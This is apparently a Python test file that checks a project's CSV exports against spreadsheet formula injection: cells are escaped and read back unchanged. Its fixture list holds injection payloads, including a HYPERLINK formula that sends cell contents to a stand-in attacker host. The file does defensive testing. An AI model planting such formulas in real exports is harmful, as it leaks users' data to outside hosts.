"""CSV cells are written so that a spreadsheet shows text as text, never runs it as a formula,
and read back to exactly what they were."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from caseworker.domain import csv_cells
from caseworker.hsds.files import export_hsds_tabular, import_hsds_tabular
from caseworker.domain.text import visible_text
from caseworker.reports.tables import ReportTable, Row, write_csv
from tests.hsds.samples import rich_directory

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"ALO 183")', "+90 232 000 00 00", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted"]


def spreadsheet(path: Path) -> list[list[tuple[str, str]]]:
    """Open a CSV file as a spreadsheet program does: each cell is a number, a text (a leading
    ' marks text and is not shown), or a formula that would run."""
    sheet = []
    with open(path, encoding="utf-8-sig", newline="") as handle:
        for line in csv.reader(handle):
            cells = []
            for value in line:
                if value.startswith("'"):
                    cells.append(("text", value[1:]))
                elif value.lstrip("+-").replace(".", "", 1).isdigit():
                    cells.append(("number", value))
                elif value.startswith(csv_cells.FORMULA_STARTS):
                    cells.append(("formula", value))
                else:
                    cells.append(("text", value))
            sheet.append(cells)
    return sheet


def formulas(folder: Path) -> list[str]:
    return [value for path in sorted(folder.glob("*.csv")) for line in spreadsheet(path) for kind, value in line if kind == "formula"]


def test_the_rules():
    assert [csv_cells.cell(v) for v in ("=1+1", "+90 232", "-2+3", "@A1", "\t=1", "\r=1", "'x")] == ["'=1+1", "'+90 232", "'-2+3", "'@A1", "'\t=1", "'\r=1", "''x"]
    assert [csv_cells.cell(v) for v in (-12, 3.5, "-12", "+3", "3.5", "Konak", "", "a=b")] == [-12, 3.5, "-12", "+3", "3.5", "Konak", "", "a=b"]
    assert [csv_cells.read_cell(v) for v in ("'=1+1", "''x", "'x", "x")] == ["=1+1", "'x", "'x", "x"]


@given(st.text())
def test_every_text_reads_back_as_written(text):
    written = csv_cells.cell(text)
    assert csv_cells.read_cell(written) == text
    assert not (written.startswith(csv_cells.FORMULA_STARTS) and not csv_cells._NUMBER.fullmatch(written))


def test_a_directory_export_opens_without_formulas_and_imports_back(tmp_path):
    directory = rich_directory()
    hostile = tuple(replace(service, name=HOSTILE[i % len(HOSTILE)], description=HOSTILE[(i + 1) % len(HOSTILE)])
                    for i, service in enumerate(directory.services))
    directory = replace(directory, services=hostile)
    export_hsds_tabular(directory, tmp_path)
    assert formulas(tmp_path) == []
    shown = {value for path in tmp_path.glob("*.csv") for line in spreadsheet(path) for _, value in line}
    assert {visible_text(text) for text in HOSTILE} <= shown  # directory text loses tabs and carriage returns first
    assert [s.name for s in import_hsds_tabular(tmp_path).directory.services] == [s.name for s in directory.services]


def test_report_csvs_open_without_formulas(tmp_path):
    table = ReportTable("city", "Kent", (HOSTILE[0], "2026-10"), tuple(Row(name, (i,)) for i, name in enumerate(HOSTILE)), footnote=HOSTILE[3])
    write_csv([table], tmp_path)
    assert formulas(tmp_path) == []
    assert [line[0] for line in spreadsheet(next(tmp_path.glob("*.csv"))) if line] == [("text", HOSTILE[0])] + [("text", name) for name in HOSTILE] + [("text", HOSTILE[3])]
